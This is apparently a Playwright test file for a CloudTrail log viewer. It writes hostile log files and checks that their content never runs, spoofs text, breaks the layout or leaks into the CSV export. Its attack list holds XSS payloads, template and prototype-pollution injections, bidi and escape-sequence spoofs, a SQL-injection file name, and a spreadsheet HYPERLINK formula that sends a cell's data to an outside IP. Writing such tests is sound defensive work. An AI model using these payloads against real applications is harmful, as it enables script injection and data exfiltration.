/** Log content that tries to run, to hide, to reorder, to blow up the page, shown in every place that shows any. */
import { mkdir, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { expect, test } from './fixtures.ts';
import { newFolder } from './small-trail.ts';
import type { SpoorPage } from './spoor-page.ts';

const run = 'globalThis.hasRun=true';
const attacks = [
  `<script>${run}</script>`,
  `<img src=x onerror="${run}">`,
  `"><svg/onload=${run}>`,
  `javascript:${run}`,
  // what a template would run, were log content ever taken for one
  `<b class=planted>bold</b> {${run}} \${${run}}`,
  `';${run};//`,
  '\u202egnp.exe\u202c \u2066isolated\u2069',
  'zero\u200bwidth\u200d\ufeff\u00ad',
  '\u001b[2J\u001b]0;owned\u0007\u001b[31mred',
  'null\u0000byte\u0008\u007f\u0085',
  '\u{e0041}\u{e0042}tags',
  '=HYPERLINK("http://192.0.2.1/?"&A1,"x")',
  '@SUM(1)|cmd',
  'W'.repeat(5000),
  'Z\u0351\u036f\u0489\u0335'.repeat(200),
  `a\u2028b\u2029c\r\nd`,
  '%2e%2e%2f%00',
];

/** As `JSON.stringify`, but with keys that an object literal would not keep. */
const hostileKeys = `"__proto__":{"polluted":"yes"},"constructor":{"prototype":{"polluted":"yes"}},"toString":"x","":"empty key","a.b":"dotted","<b class=planted>k</b>":"markup","\\u202ek":"turned"`;

function hostileEvent(attack: string, nth: number): string {
  const text = JSON.stringify(attack);
  const id = `00000000-0000-4000-8000-${String(nth).padStart(12, '0')}`;
  return `{"eventVersion":"1.08","userIdentity":{"type":${text},"arn":${text},"userName":${text},"principalId":${text},"accountId":${text},"accessKeyId":${text},"sessionContext":{"sessionIssuer":{"userName":${text}}}},"eventTime":"2026-05-0${String(1 + (nth % 9))}T10:00:00Z","eventSource":${text},"eventName":${text},"awsRegion":${text},"sourceIPAddress":${text},"userAgent":${text},"errorCode":${text},"errorMessage":${text},"requestParameters":{"bucketName":${text},"policyDocument":${JSON.stringify(JSON.stringify({ Statement: attack }))},${hostileKeys}},"responseElements":${text},"resources":[{"ARN":${text},"type":${text}}],"eventID":"${id}","eventType":${text},"recipientAccountId":${text},"vpcEndpointId":${text},"sharedEventID":${text}}`;
}

const fileNames = [
  '<img src=x onerror=globalThis.hasRun=true>.json',
  '\u202enosj.evil.json',
  '=1+1.json',
  '__proto__',
  'new\nline\u001b[31m.json',
  `${'n'.repeat(240)}.json`,
  "'; DROP TABLE events; --.json",
];

async function hostileFolder(): Promise<{ readonly folder: string; readonly events: number }> {
  const folder = join(await newFolder(), 'hostile');
  await mkdir(folder, { recursive: true });
  const events = attacks.map(hostileEvent);
  const share = Math.ceil(events.length / fileNames.length);
  for (const [index, name] of fileNames.entries()) {
    const own = events.slice(index * share, (index + 1) * share);
    await writeFile(
      join(folder, name),
      own.length ? `{"Records":[${own.join(',')}]}` : `not a log: ${attacks.join(' ')}`,
    );
  }
  const long = hostileEvent('long', attacks.length).replace(
    '"errorMessage":"long"',
    `"errorMessage":"${'x'.repeat(1_000_000)}"`,
  );
  await writeFile(join(folder, 'long.json'), `{"Records":[${long}]}`);
  await writeFile(
    join(folder, 'broken.json'),
    `{"Records":[${events[0]!},{"a":"\u202e${attacks[1]!.replaceAll('"', '')}`,
  );
  const digest = (attack: string): string => {
    const text = JSON.stringify(attack);
    return `{"awsAccountId":${text},"digestStartTime":"2026-05-01T10:00:00Z","digestEndTime":"2026-05-01T11:00:00Z","digestS3Bucket":${text},"digestS3Object":${text},"digestPublicKeyFingerprint":${text},"digestSignatureAlgorithm":"SHA256withRSA","newestEventTime":${text},"oldestEventTime":${text},"previousDigestS3Bucket":${text},"previousDigestS3Object":${text},"previousDigestHashValue":${text},"previousDigestHashAlgorithm":"SHA-256","previousDigestSignature":${text},"logFiles":[{"s3Bucket":${text},"s3Object":${text},"hashValue":${text},"hashAlgorithm":"SHA-256","newestEventTime":${text},"oldestEventTime":${text}}]}`;
  };
  for (const [nth, attack] of attacks.entries()) await writeFile(join(folder, `digest ${nth}.json`), digest(attack));
  const keys = attacks.map((attack) => ({ Fingerprint: attack, Value: attack, ValidityStartTime: attack }));
  await writeFile(join(folder, 'keys.json'), JSON.stringify({ PublicKeyList: keys }));
  return { folder, events: attacks.length + 1 };
}

/** What shows that hostile text got through: run scripts, markup of its own, invisible characters, a wider page. */
async function expectHarmless(spoor: SpoorPage, where: string): Promise<void> {
  await spoor.idle();
  const found = await spoor.page.evaluate(() => {
    const hidden = /[\p{Cc}\p{Cf}\p{Zl}\p{Zp}]/u;
    const invisible: string[] = [];
    const note = (what: string, text: string): void => {
      if (hidden.test(text.replaceAll('\n', ''))) invisible.push(`${what}: ${JSON.stringify(text.slice(0, 80))}`);
    };
    const walker = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT);
    for (let node = walker.nextNode(); node; node = walker.nextNode()) {
      const parent = node.parentElement!;
      // The raw text is shown as it is, with each mark in a box of its own.
      if (!parent.closest('pre, script, style, textarea')) note(`<${parent.localName}>`, node.textContent ?? '');
    }
    for (const element of document.querySelectorAll('*')) {
      for (const name of ['title', 'aria-label', 'placeholder', 'alt']) {
        const text = element.getAttribute(name);
        if (text !== null) note(`${element.localName}[${name}]`, text);
      }
    }
    const planted = [
      ...document.querySelectorAll('img, script:not([src]), .planted, [onload], [onerror], a[href^="javascript"]'),
    ];
    return {
      hasRun: 'hasRun' in globalThis,
      polluted: 'polluted' in Object.prototype,
      planted: planted.map((element) => element.outerHTML.slice(0, 100)),
      invisible: invisible.slice(0, 5),
      widerBy: Math.max(0, document.documentElement.scrollWidth - innerWidth),
      title: hidden.test(document.title),
    };
  });
  expect(found, where).toEqual({
    hasRun: false,
    polluted: false,
    planted: [],
    invisible: [],
    widerBy: 0,
    title: false,
  });
}

test('nothing of hostile logs runs, hides, or breaks the page, wherever it is shown', async ({ spoor }) => {
  const { page } = spoor;
  page.on('dialog', (dialog) => {
    throw new Error(`a dialog opened: ${dialog.message()}`);
  });
  const { folder, events } = await hostileFolder();
  await spoor.drop([folder]);
  await expectHarmless(spoor, 'after the import');
  await spoor.expectCount(events, events);

  for (let nth = 0; nth < events; nth++) {
    await spoor.openEvent(nth);
    await expectHarmless(spoor, `raw text of event ${nth}`);
    for (const tab of await spoor.detail.getByRole('tab').all()) {
      await tab.click();
      await expectHarmless(spoor, `a tab of event ${nth}`);
    }
  }
  for (const field of ['eventName', 'eventSource', 'who']) {
    const values = page.locator(`[data-facet="${field}"] [data-value] button.value`);
    for (const nth of [0, 3]) {
      await values.nth(nth).click();
      await expectHarmless(spoor, `value ${nth} of facet ${field}`);
      await spoor.filter('');
    }
  }
  for (const attack of attacks.slice(0, 12)) {
    await spoor.filterBox.fill(attack);
    await expectHarmless(spoor, `typed ${attack.slice(0, 20)}`);
    await spoor.filter(`eventName:${JSON.stringify(attack)}`);
    await expectHarmless(spoor, `filtered by ${attack.slice(0, 20)}`);
  }
  await spoor.filter('eventName:');
  await spoor.filterBox.fill('userAgent:');
  await expectHarmless(spoor, 'completion');
  await spoor.filter('');

  await spoor.show('Sources');
  await expectHarmless(spoor, 'Sources');
  await spoor.ledgerTable.getByRole('row').filter({ hasText: 'onerror' }).getByRole('button').first().click();
  await expectHarmless(spoor, 'the events of one file');
  await expect(spoor.filterBox).toHaveValue(/^sourceFile:/);
  await expect(spoor.resultCount).toHaveText(`3 of ${events} events`);
  await spoor.filter('');
  await spoor.show('Integrity');
  await expectHarmless(spoor, 'Integrity');
  for (const tab of await page.getByRole('main').getByRole('tab').all()) {
    await tab.click();
    await expectHarmless(spoor, 'a part of Integrity');
  }
  await spoor.show('Events');

  const { bytes } = await spoor.download('Export CSV');
  const csv = bytes.toString('utf8');
  for (const cell of csv.split(/[,\r\n]/)) expect(cell.replace(/^"/, '')).not.toMatch(/^[=@+\t]/);
  const lines = await spoor.exportedLines();
  expect(lines).toHaveLength(events);
  for (const line of lines) expect(() => JSON.parse(line) as unknown).not.toThrow();
});
